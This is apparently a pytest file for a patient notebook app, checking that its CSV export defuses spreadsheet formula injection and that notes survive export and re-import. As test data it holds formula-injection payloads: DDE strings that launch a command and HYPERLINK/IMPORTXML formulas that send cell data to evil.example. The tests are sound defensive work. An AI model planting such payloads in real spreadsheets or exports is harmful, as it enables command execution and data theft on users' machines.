"""Requirement 30: no cell of an export runs in a spreadsheet, and no word is changed in the file that is read back."""

import csv
import io
import json
import zipfile

import pytest

from app.interop.spreadsheet import safe_cell
from app.kit.ids import new_id
from tests.house import DAY, Json, Notebook

_CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"see")',
    'IMPORTXML("https://evil.example","//a")',
    "SUM(A1:A9)",
)
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
PAYLOADS = [start + call for start in _STARTS for call in _CALLS] + [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=",
    "@",
    "--1",
]
WORDS = [
    "=)",
    "- mieux le soir",
    "+ de marche",
    "@Claire",
    "'déjà une apostrophe",
    'guillemets "ici", virgule',
    "deux\nlignes",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_r30_a_cell_that_could_be_run_is_made_text(payload: str) -> None:
    assert safe_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_r30_no_row_written_for_a_spreadsheet_holds_a_formula(payload: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([safe_cell(payload), safe_cell([payload]), safe_cell({"a": payload})])

    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert not [cell for cell in row if cell.startswith((*_STARTS, "\t", "\r", "\n"))]


@pytest.mark.parametrize("value", [0, -3, 5.7, -0.5, True, None])
def test_r30_numbers_stay_numbers_and_nothing_stays_empty(value: object) -> None:
    assert safe_cell(value) is value


def test_r30_an_export_is_safe_to_open_and_gives_every_word_back(notebook: Notebook) -> None:
    texts = [*PAYLOADS, *WORDS]
    mutations = [_note(text) for text in texts]
    answer = notebook.person.post(
        "/v1/sync/push", json={"patient": str(notebook.patient_id), "client_schema": 3, "mutations": mutations}
    )
    assert {result["status"] for result in answer.json()["results"]} == {"applied"}

    exported = notebook.person.get(f"/v1/patients/{notebook.patient_id}/export").content
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        table = archive.read("tables/flare.csv").decode("utf-8-sig")
        lines = [json.loads(line) for line in archive.read("records/flare.jsonl").splitlines()]

    cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith((*_STARTS, "\t", "\r", "\n"))]
    assert sorted(line["fields"]["note"] for line in lines) == sorted(text.strip() for text in texts)


def test_r30_words_survive_leaving_and_coming_back(notebook: Notebook) -> None:
    for text in WORDS:
        notebook.writes("story", text=text)
    exported = notebook.person.get(f"/v1/patients/{notebook.patient_id}/export").content
    cast = notebook.house.cast
    other_id = cast.person(notebook.house.practice)
    other = notebook.browser_of(cast.account(notebook.house.new_login("retour"), patient_id=other_id))

    done = other.post(
        f"/v1/patients/{other_id}/imports", files={"file": ("longcours.zip", exported)}, data={"dry_run": "false"}
    )

    assert done.json()["plan"]["new"] == len(WORDS), done.text
    read = other.get(f"/v1/patients/{other_id}/stories").json()["items"]
    assert sorted(item["fields"]["text"] for item in read) == sorted(WORDS)


def _note(text: str) -> Json:
    fields = {"local_date": DAY, "note": text}
    return {"mutation_id": str(new_id()), "kind": "flare", "record_id": str(new_id()), "op": "put", "fields": fields}
